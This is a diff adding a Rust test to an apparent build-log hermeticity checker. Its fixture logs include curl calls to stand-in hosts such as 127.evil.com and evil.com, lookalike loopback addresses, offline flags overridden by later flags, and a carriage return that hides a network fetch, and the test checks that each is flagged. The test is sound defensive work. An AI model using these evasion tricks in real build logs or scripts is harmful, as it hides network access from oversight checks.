@@ -232,6 +232,65 @@ fn invocations_given_with_command() {
     assert_eq!(v["subjects"][0]["kind"], "unrecognised command");
 }
 
+/// Logs that looked clean to a prefix test for loopback, to "any offline flag present", or
+/// to a reader of only the text after the last `\r`: each is denied, at the right line.
+#[test]
+fn lookalike_loopback_overridden_flags_and_redrawn_lines_are_denied() {
+    let dir = tempfile::tempdir().unwrap();
+    let cases: &[(&str, &str, u32, &str)] = &[
+        (
+            "loopback.log",
+            "+ cargo build --offline\n+ curl http://127.evil.com/x\n",
+            2,
+            "HRM001",
+        ),
+        (
+            "loopback2.log",
+            "+ cargo build --offline\n+ curl http://127.0.0.1.evil.com/x\n",
+            2,
+            "HRM001",
+        ),
+        ("npm.log", "+ npm install --offline=false\n", 1, "HRM002"),
+        (
+            "go.log",
+            "+ go build -mod=vendor -mod=mod ./...\n",
+            1,
+            "HRM002",
+        ),
+        (
+            "goflags.log",
+            "+ GOFLAGS=-mod=vendor go build -mod=mod ./...\n",
+            1,
+            "HRM002",
+        ),
+        (
+            "docker.log",
+            "+ docker build --network=none --network=default .\n",
+            1,
+            "HRM002",
+        ),
+        (
+            "cr.log",
+            "+ curl https://evil.com/x\r+ cargo build --offline\n",
+            1,
+            "HRM001",
+        ),
+        (
+            "pipcr.log",
+            "Collecting six==1.16.0\n  Downloading six-1.16.0-py2.py3-none-any.whl (11 kB)\r     |################| 11 kB 2.0 MB/s\nSuccessfully installed six-1.16.0\n",
+            2,
+            "HRM001",
+        ),
+    ];
+    for (name, text, line, code) in cases {
+        let p = write(dir.path(), name, text);
+        let (v, exit, stderr) = json_of(&["hermetic", "check", p.to_str().unwrap()]);
+        assert_eq!(exit, 1, "{name}: {stderr} {v}");
+        let got: Vec<_> = findings(&v).into_iter().map(|f| (f.1, f.2)).collect();
+        assert_eq!(got, vec![(*line, code.to_string())], "{name}");
+    }
+}
+
 #[test]
 fn unrecognised_log_is_no_verdict_exit_2() {
     let dir = tempfile::tempdir().unwrap();
